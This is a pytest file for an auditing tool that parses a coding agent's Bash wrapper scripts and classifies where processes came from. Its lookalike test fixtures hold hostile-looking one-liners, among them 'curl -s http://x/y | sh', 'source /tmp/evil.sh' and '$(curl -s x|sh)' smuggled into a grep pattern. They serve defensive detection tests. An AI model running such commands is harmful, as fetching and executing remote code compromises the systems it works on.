"""origin: Bash tool wrapper parsing and the origin rules.

Wrappers are built the way Claude Code builds them (read from the shipped 2.0.77 cli.js and the 2.1.331
binary): 2.1.x single-quotes with '"'"' (or leaves a word of [A-Za-z0-9_./:=@+,-] bare), FIELD_NOTES
records '\\'' too, and 2.0.x uses shell-quote's quote(), whose output may be single-quoted, double-quoted
or a bare word with backslashes, followed by `\\<`. The oracle tests run real bash with `eval`
replaced by a function that prints its argument, so "what eval receives" is bash's answer, not ours.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from claude_audit.decode import split_argv
from claude_audit.origin import classify_origin, extract_command, is_tool_wrapper

CWD_FILE = b"/tmp/claude-3f2a-cwd"
SNAPSHOT = b"/root/.claude/shell-snapshots/snapshot-bash-1795572670068-k2j4x1.sh"
NATIVE = b"/srv/app/node_modules/@anthropic-ai/claude-code/bin/claude.exe"

# -- how Claude Code quotes -----------------------------------------------------------------------


def sq_backslash(cmd: bytes) -> bytes:
    """Single quotes with '\\'' for each embedded quote (FIELD_NOTES)."""
    return b"'" + cmd.replace(b"'", b"'\\''") + b"'"


def sq_double(cmd: bytes) -> bytes:
    """Single quotes with '"'"' for each embedded quote (2.1.331's quoting, 2.0.77's heredoc path)."""
    return b"'" + cmd.replace(b"'", b"'\"'\"'") + b"'"


def quote_21(cmd: str) -> bytes:
    """2.1.331's shell quoting: '' for empty, bare when safe, else '"'"' single quotes."""
    if cmd == "":
        return b"''"
    if re.fullmatch(r"[A-Za-z0-9_./:=@+,-]+", cmd):
        return cmd.encode()
    return sq_double(cmd.encode())


# JavaScript's \\s: ASCII blanks plus the Unicode space separators, line/paragraph separators and BOM.
_JS_WS = (
    "\t\n\v\f\r \u00a0\u1680"
    + "".join(map(chr, range(0x2000, 0x200B)))
    + "\u2028\u2029\u202f\u205f\u3000\ufeff"
)


def shell_quote(s: str) -> bytes:
    """shell-quote's quote() for one string, as bundled in 2.0.77's cli.js (JS \\s whitespace)."""
    has_ws = any(c in _JS_WS for c in s)
    if s == "":
        return b"''"
    if (has_ws or '"' in s or "\\" in s) and "'" not in s:
        return ("'" + s + "'").encode()
    if has_ws or '"' in s or "'" in s:
        return ('"' + re.sub(r'(["\\$`!])', r"\\\1", s) + '"').encode()
    return re.sub(r"([A-Za-z]:)?([#!\"$&'()*,:;<=>?@\[\\\]^`{|}])", r"\1\\\2", s).encode()


def wrapper_21(word: bytes, redirect: bytes = b" < /dev/null") -> bytes:
    """A 2.1.x Bash tool script around an already quoted command word."""
    return (
        b"source " + SNAPSHOT + b" 2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true && "
        b"{ \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && "
        b"eval " + word + redirect + b" && pwd -P >| " + CWD_FILE
    )


def wrapper_20(word: bytes, redirect: bytes = b" \\< /dev/null") -> bytes:
    """A 2.0.77 Bash tool script around an already quoted command word."""
    return (
        b"source " + SNAPSHOT + b" && shopt -u extglob 2>/dev/null || true && eval " + word + redirect
        + b" && pwd -P >| " + CWD_FILE
    )  # fmt: skip


def argv_21(script: bytes) -> list[bytes]:
    """argv of a 2.1.x Bash tool call."""
    return [b"/bin/bash", b"-c", script]


def argv_20(script: bytes) -> list[bytes]:
    """argv of a 2.0.77 Bash tool call."""
    return [b"/bin/bash", b"-c", b"-l", script]


# -- golden extraction ----------------------------------------------------------------------------

GOLDEN = [
    b"ls -la",
    b"echo 'it'\"'\"'s' && echo \"x\"",
    b"cat <<'EOF'\nhello 'world'\n$HOME stays\nEOF",
    b"ps aux | grep -v grep | wc -l",
    b"cd /srv && make test && echo ok || echo fail",
    "echo h\u00e9llo \u2603 \U0001f600 \u65e5\u672c".encode(),
    b"printf '%s\\n' \"$(date)\" `id -u` ${HOME}",
    b"echo '\\'' \\\\ \\n",
    b"a\nb\n\nc",
    b"echo \xff\xfe invalid \xc3",
    b"",
    b"'",
    b"''''",
    b"eval 'x' < /dev/null && pwd -P >| /tmp/claude-0-cwd",
]


@pytest.mark.parametrize("cmd", GOLDEN)
@pytest.mark.parametrize("quote", [sq_backslash, sq_double])
def test_golden_single_quoted_forms(cmd: bytes, quote: object) -> None:
    """Both single-quote escapings round-trip in both wrapper generations and flag orders."""
    assert callable(quote)
    word = quote(cmd)
    assert extract_command(argv_21(wrapper_21(word))) == cmd
    assert extract_command(argv_20(wrapper_20(word))) == cmd
    assert extract_command([b"/bin/bash", b"-l", b"-c", wrapper_21(word)]) == cmd
    assert extract_command([b"/usr/bin/zsh", b"-c", wrapper_21(word)]) == cmd
    assert extract_command([b"/bin/sh", b"-c", wrapper_21(word, b"")]) == cmd  # heredoc: no redirect


def test_golden_group_form() -> None:
    """`{ eval WORD < /dev/null; }` (2.1.x, feature-flagged) is recognised."""
    script = (
        b"source "
        + SNAPSHOT
        + b" 2>/dev/null || true && { eval 'ls -l' < /dev/null; } && pwd -P >| "
        + CWD_FILE
    )
    assert extract_command(argv_21(script)) == b"ls -l"


def test_golden_shell_quote_forms() -> None:
    """2.0.77's shell-quote output: bare with backslashes, double quotes, and its \\! quirk."""
    assert shell_quote("pwd") == b"pwd"
    assert shell_quote("ls|wc") == b"ls\\|wc"
    assert extract_command(argv_20(wrapper_20(b"ls\\|wc"))) == b"ls|wc"
    dq = shell_quote('echo "it\'s" $HOME `x`')
    assert dq == b'"echo \\"it\'s\\" \\$HOME \\`x\\`"'
    assert extract_command(argv_20(wrapper_20(dq))) == b'echo "it\'s" $HOME `x`'
    bs = shell_quote("it's a \\ and \\n")
    assert bs == b'"it\'s a \\\\ and \\\\n"'
    assert extract_command(argv_20(wrapper_20(bs))) == b"it's a \\ and \\n"
    # shell-quote escapes ! in double quotes and bash keeps the backslash there: that is what ran.
    assert extract_command(argv_20(wrapper_20(shell_quote("echo 'hi!'")))) == b"echo 'hi\\!'"


def test_golden_pipeline_rewrite_20() -> None:
    """2.0.77 puts `< /dev/null` inside a pipeline's text; the result is the text eval received."""
    script = wrapper_20(b"'ls < /dev/null | wc -l'", b"")
    assert extract_command(argv_20(script)) == b"ls < /dev/null | wc -l"


def test_env_file_prefix_is_not_verifiable() -> None:
    """A CLAUDE_ENV_FILE-style prefix (the user's text, here with a newline and a comment holding a lone
    quote) is scanned without confusion, but it is not a segment Claude Code writes: not a tool call."""
    script = b"export A=1 # don't\n && " + wrapper_21(b"'echo ok'")
    assert extract_command(argv_21(script)) is None
    assert classify_origin(argv_21(script), b"/bin/bash", parent_is_root=True) == "unknown"


@pytest.mark.parametrize(
    "argv",
    [
        [b"/bin/bash", b"-c", b"ls -la"],
        [b"/bin/bash", b"-c", b"eval 'ls' < /dev/null"],  # no pwd tail
        [b"/bin/bash", b"-c", b"eval 'ls' && pwd -P >| /tmp/other-cwd"],  # not Claude's cwd file
        [b"/bin/bash", b"-c", b"eval 'ls' && pwd -P >| /tmp/claude-1-cwd && true"],
        [b"/bin/bash", b"-c", b"eval 'ls && pwd -P >| /tmp/claude-1-cwd"],  # unterminated quote
        [b"/bin/bash", b"-c", b'eval "$CMD" && pwd -P >| /tmp/claude-1-cwd'],  # expansion: unknown
        [b"/bin/bash", b"-c", b"eval ~/x.sh && pwd -P >| /tmp/claude-1-cwd"],  # tilde: unknown
        [b"/bin/bash", b"-c", b"eval *.sh && pwd -P >| /tmp/claude-1-cwd"],  # glob: unknown
        [b"/bin/bash", b"-c", b"eval 'a' 'b' && pwd -P >| /tmp/claude-1-cwd"],  # two words
        [b"/bin/bash", b"-c", b"eval 'a' > /dev/null && pwd -P >| /tmp/claude-1-cwd"],  # other redirect
        [b"/bin/bash", b"-c", b"echo 'a' && pwd -P >| /tmp/claude-1-cwd"],
        [b"/usr/bin/python3", b"-c", wrapper_21(b"'ls'")],
        [b"/bin/bash", b"-x", b"-c", wrapper_21(b"'ls'")],
        [b"/bin/bash", wrapper_21(b"'ls'")],
        [b"/bin/bash", b"-c", wrapper_21(b"'ls'"), b"extra"],
        [b"'/opt/prefix' " + sq_backslash(wrapper_21(b"'ls'"))],  # CLAUDE_CODE_SHELL_PREFIX
        [],
    ],
)
def test_unrecognised_is_none(argv: list[bytes]) -> None:
    """Anything that is not exactly the wrapper shape gives None, never a guess."""
    assert extract_command(argv) is None


def test_carried_command_text_form_is_tool_without_command() -> None:
    """2.1.x's form that passes the command in an environment variable is a tool call, command unknown."""
    script = (
        b"{ \\builtin typeset +x '__CLAUDE_CC_COMMAND_TEXT' 2>/dev/null || \\builtin true; } && source "
        + SNAPSHOT
        + b" && "
        b'{ \\builtin [ -n "${__CLAUDE_CC_COMMAND_TEXT:+1}" ] || '
        b"{ \\builtin echo '__CLAUDE_CC_COMMAND_TEXT?' "
        b">&2; \\builtin exit 126; }; } && 'eval' \"\\builtin 'unset' -v '__CLAUDE_CC_COMMAND_TEXT'; "
        b"'eval' $__CLAUDE_CC_COMMAND_TEXT\" && pwd -P >| " + CWD_FILE
    )
    argv = argv_21(script)
    assert extract_command(argv) is None
    assert is_tool_wrapper(argv)
    assert classify_origin(argv, b"/bin/bash", parent_is_root=True) == "tool"


# -- property tests -------------------------------------------------------------------------------

# Shell-significant characters are rare in uniform random data: draw them often on purpose.
SHELLISH = " '\"\\$`!~*?[]{}<>|&;()#\n\t=:,@%^-"
commands = (
    st.lists(
        st.one_of(
            st.sampled_from([bytes([c]) for c in SHELLISH.encode()]), st.binary(min_size=1, max_size=4)
        ),
        max_size=60,
    )
    .map(b"".join)
    .filter(lambda b: b"\0" not in b)
)
texts = st.lists(
    st.one_of(
        st.sampled_from(list(SHELLISH)),
        st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"),
    ),
    max_size=60,
).map("".join)


@given(commands)
def test_property_single_quoted_roundtrip(cmd: bytes) -> None:
    """For any bytes without NUL, wrapping as Claude Code does and extracting is the identity."""
    for word in (sq_backslash(cmd), sq_double(cmd)):
        assert extract_command(argv_21(wrapper_21(word))) == cmd
        assert extract_command(argv_20(wrapper_20(word))) == cmd


@given(texts)
def test_property_21_quoting_roundtrip(cmd: str) -> None:
    """2.1.331's quoting (bare or '"'"') round-trips for any text."""
    assert extract_command(argv_21(wrapper_21(quote_21(cmd)))) == cmd.encode()


@given(texts.filter(lambda s: "!" not in s))
def test_property_shell_quote_roundtrip(cmd: str) -> None:
    """2.0.77's shell-quote output round-trips, except a bare leading ~ (expanded by bash): None."""
    got = extract_command(argv_20(wrapper_20(shell_quote(cmd))))
    if cmd.startswith("~") and shell_quote(cmd)[:1] == b"~":
        assert got is None
    else:
        assert got == cmd.encode()


# -- oracle: real bash ------------------------------------------------------------------------------

BASH = shutil.which("bash")


def bash_eval_arg(script: bytes, cwd_dir: Path) -> bytes:
    """What real bash passes to `eval` in a wrapper script (the snapshot and cwd file made harmless)."""
    script = script.replace(SNAPSHOT, b"/dev/null").replace(CWD_FILE, bytes(cwd_dir) + b"/claude-3f2a-cwd")
    spy = b"eval() { printf '%s' \"$1\"; exit 0; }; "
    assert BASH is not None
    out = subprocess.run([BASH, "-c", spy + script], capture_output=True, check=False, timeout=10)
    return out.stdout


@pytest.mark.parametrize("cmd", GOLDEN)
def test_oracle_bash_agrees_golden(cmd: bytes, tmp_path: Path) -> None:
    """bash's own parse of each golden wrapper gives exactly what extract_command returns."""
    for script in (wrapper_21(sq_backslash(cmd)), wrapper_20(sq_double(cmd))):
        assert bash_eval_arg(script, tmp_path) == extract_command(argv_21(script)) == cmd


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts.filter(lambda s: not s.startswith("~")))
def test_oracle_bash_agrees_shell_quote(tmp_path: Path, cmd: str) -> None:
    """For shell-quote's forms (including the ! quirk), extract_command agrees with real bash."""
    script = wrapper_20(shell_quote(cmd))
    assert extract_command(argv_20(script)) == bash_eval_arg(script, tmp_path)


# -- classify_origin --------------------------------------------------------------------------------

SNAPSHOT_SCRIPT = (
    b"SNAPSHOT_FILE=/root/.claude/shell-snapshots/snapshot-bash-1795572670068-k2j4x1.sh\n"
    b'      source "/root/.bashrc" < /dev/null\n\n      # First, create/clear the snapshot file\n'
    b'      echo "# Snapshot file" >| "$SNAPSHOT_FILE"\n'
    b'      if [ ! -f "$SNAPSHOT_FILE" ]; then\n'
    b'        echo "Error: Snapshot file was not created at $SNAPSHOT_FILE" >&2\n'
    b"        exit 1\n      fi\n    "
)


@pytest.mark.parametrize(
    ("argv", "exe", "parent_is_root", "origin"),
    [
        (argv_21(wrapper_21(b"'ls'")), b"/bin/bash", True, "tool"),
        (argv_20(wrapper_20(b"ls")), b"/usr/bin/bash", True, "tool"),
        (argv_21(wrapper_21(b"'ls'")), b"/bin/bash", False, "unknown"),  # not run by the session root
        ([b"/bin/bash", b"-c", b"-l", SNAPSHOT_SCRIPT], b"/bin/bash", True, "internal"),
        ([b"/bin/zsh", b"-l", b"-c", SNAPSHOT_SCRIPT], b"/bin/zsh", True, "internal"),
        ([b"env"], b"/usr/bin/env", True, "internal"),
        ([b"/bin/bash", b"-c", b"env"], b"/bin/bash", True, "internal"),
        ([b"/bin/sh", b"-c", b"which zsh"], b"/bin/sh", True, "internal"),
        ([b"rg", b"--files", b"/srv"], NATIVE, True, "internal"),
        ([b"bfs", b"-name", b"x"], NATIVE, True, "internal"),
        ([b"ugrep", b"x"], b"/home/u/.local/share/claude/versions/2.1.199", True, "internal"),
        (
            [b"rg", b"x"],
            b"/srv/node_modules/@anthropic-ai/claude-code/vendor/ripgrep/x64-linux/rg",
            True,
            "internal",
        ),
        ([b"env"], b"/usr/bin/env", False, "unknown"),  # deep in a tree, `env` is just env
        ([b"rg", b"x"], NATIVE, False, "unknown"),
        ([b"claude", b"-p", b"x"], NATIVE, True, "unknown"),  # Claude running itself: a nested session
        ([b"env", b"FOO=1", b"make"], b"/usr/bin/env", True, "unknown"),
        ([b"git", b"rev-parse", b"HEAD"], b"/usr/bin/git", True, "internal"),
        ([b"git", b"push"], b"/usr/bin/git", False, "unknown"),
        ([b"/bin/sh", b"-c", b"git push"], b"/bin/sh", True, "unknown"),
        ([b"/bin/sh", b"-c", b"python3 ~/.claude/hooks/check.py"], b"/bin/sh", True, "unknown"),  # a hook
        ([b"/bin/bash", b"-c", b"echo SNAPSHOT_FILE=x"], b"/bin/bash", True, "unknown"),
        ([b"npx", b"-y", b"some-mcp-server"], b"/usr/bin/node", True, "unknown"),
    ],
)
def test_classify_origin(argv: list[bytes], exe: bytes, parent_is_root: bool, origin: str) -> None:
    """The documented origin rules, one case each (see docs/ORIGIN.md)."""
    assert classify_origin(argv, exe, parent_is_root=parent_is_root) == origin


def test_classify_origin_claude_exe_of_unusual_install() -> None:
    """A Claude binary at a path of no known shape is recognised when its path is passed in."""
    argv = [b"rg", b"--files"]
    assert classify_origin(argv, b"/opt/cc/claude", parent_is_root=True) == "unknown"
    assert (
        classify_origin(argv, b"/opt/cc/claude", parent_is_root=True, claude_exe=b"/opt/cc/claude")
        == "internal"
    )


# -- real Claude Code captures (tests/unit/data/claude_captures, see its README) -----------------------

CAPTURES = Path(__file__).parent / "data" / "claude_captures"
VERSIONS = ["2.1.331", "2.0.77"]


def capture(version: str) -> dict[str, Any]:
    """tree.json of one captured session."""
    data: dict[str, Any] = json.loads((CAPTURES / version / "tree.json").read_text())
    return data


def proc_file(version: str, pid: int | str, name: str) -> bytes:
    """One captured /proc file."""
    return (CAPTURES / version / "proc" / str(pid) / name).read_bytes()


@pytest.mark.parametrize("version", VERSIONS)
def test_captured_wrappers_give_the_commands(version: str) -> None:
    """Real wrappers' argv give back the exact commands the fake API sent (2.0.77's pipe rewrite aside)."""
    tree = capture(version)
    for i, pid in enumerate(tree["bash_tool_wrappers"]):
        argv = split_argv(proc_file(version, pid, "cmdline"))
        expected = tree["commands"][i].encode()
        if version == "2.0.77" and i == 2:
            # 2.0.x puts `< /dev/null` after a pipeline's first command; the shell ran the rewritten text.
            expected = b"bash -c 'sleep 2; true' < /dev/null | cat"
        assert extract_command(argv) == expected


def test_captured_21_quotes_with_double_quote_joins() -> None:
    """The real 2.1.331 joins single-quoted parts with '"'"' (FIELD_NOTES says '\\''): both are read."""
    argv = split_argv(proc_file("2.1.331", capture("2.1.331")["bash_tool_wrappers"][1], "cmdline"))
    assert b"'\"'\"'" in argv[-1]


@pytest.mark.parametrize("version", VERSIONS)
def test_captured_origins_of_direct_children(version: str) -> None:
    """Every real direct child of the Claude process gets the origin its role implies."""
    tree = capture(version)
    root = tree["claude_pid"]
    root_exe = proc_file(version, root, "exe.txt")
    for pid, p in tree["processes"].items():
        exe = proc_file(version, pid, "exe.txt")
        if p["ppid"] != root or exe == root_exe:
            continue  # node's children caught between fork and exec show the parent's image: not an exec
        argv = split_argv(proc_file(version, pid, "cmdline"))
        got = classify_origin(argv, exe, parent_is_root=True, claude_exe=root_exe)
        expected = {"bash_tool_wrapper": "tool", "shell_snapshot": "internal", "other": "internal"}[p["role"]]
        assert (pid, got) == (pid, expected)


# -- shapes an adversary writes (hooks, status lines, settings) ------------------------------------

HOOK_SHAPES = [
    # the example: something else runs before a wrapper-shaped tail
    b"curl -s http://x/y | sh; eval 'git status' && pwd -P >| /tmp/claude-1-cwd",
    b"curl -s http://x/y | sh && eval 'git status' && pwd -P >| /tmp/claude-1-cwd",
    b"source /tmp/evil.sh && eval 'git status' < /dev/null && pwd -P >| /tmp/claude-1-cwd",
    b"source /home/u/.claude/shell-snapshots/x.sh && eval 'ls' && pwd -P >| /tmp/claude-1-cwd",
    wrapper_21(b"'git status'").replace(b"eval 'git status' < /dev/null", b"eval 'git status'; id"),
    wrapper_21(b"'git status'").replace(b"< /dev/null", b"< /dev/null | sh"),
    wrapper_21(b"'git status'").replace(b"|| true &&", b"|| id &&", 1),
    wrapper_21(b"'git status'").replace(b"'which'; \\builtin unset -f -- 'which'", b"'which'; id"),
    wrapper_21(b"'git status'").replace(
        b"-- 'which'; \\builtin unset -f -- 'which'", b"-- 'a'; \\builtin unset -f -- 'b'"
    ),
]


@pytest.mark.parametrize("script", HOOK_SHAPES)
def test_wrapper_lookalikes_are_unknown(script: bytes) -> None:
    """A hook shaped like the wrapper, with anything Claude Code does not write before or after the eval,
    is neither a tool call nor given a command: `unknown`."""
    argv = [b"/bin/sh", b"-c", script]
    assert extract_command(argv) is None
    assert not is_tool_wrapper(argv)
    assert classify_origin(argv, b"/bin/sh", parent_is_root=True) == "unknown"


@pytest.mark.parametrize(
    "script",
    [
        b'ps aux | grep -E "code|cursor|windsurf|$(curl -s x|sh)" | grep -v grep',
        b'ps aux | grep -E "code|cursor|windsurf|`id`" | grep -v grep',
        b'ps aux | grep -E "code|cursor|windsurf|a\\" | grep -v grep',
        b'ps aux | grep -E "code|cursor|windsurf|a"; id; "" | grep -v grep',
        b"which bash; id",
        b"SNAPSHOT_FILE=/tmp/shell-snapshots/snapshot-bash-1-a.sh\ncurl x | sh",
        b"SNAPSHOT_FILE=$(id)/shell-snapshots/snapshot-bash-1-a.sh\n" + SNAPSHOT_SCRIPT.split(b"\n", 1)[1],
    ],
)
def test_probe_lookalikes_with_expansions_are_unknown(script: bytes) -> None:
    """A probe-shaped script carrying `$(...)`, backquotes or extra commands is not `internal`."""
    assert classify_origin([b"/bin/sh", b"-c", script], b"/bin/sh", parent_is_root=True) == "unknown"


def test_real_ide_probe_is_internal() -> None:
    """The IDE check exactly as the real 2.0.77 ran it stays `internal`."""
    script = (
        b'ps aux | grep -E "code|cursor|windsurf|idea|pycharm|webstorm|phpstorm|rubymine|clion|goland|'
        b'rider|datagrip|dataspell|aqua|gateway|fleet|android-studio" | grep -v grep'
    )
    assert classify_origin([b"/bin/sh", b"-c", script], b"/bin/sh", parent_is_root=True) == "internal"


def test_labels_need_the_session_root_as_parent() -> None:
    """The exact wrapper, the snapshot shell and the probes are `unknown` below anything but the root."""
    for argv in (
        argv_21(wrapper_21(b"'ls'")),
        [b"/bin/bash", b"-c", b"-l", SNAPSHOT_SCRIPT],
        [b"/bin/sh", b"-c", b"which bash"],
    ):
        assert classify_origin(argv, b"/bin/bash", parent_is_root=False) == "unknown"
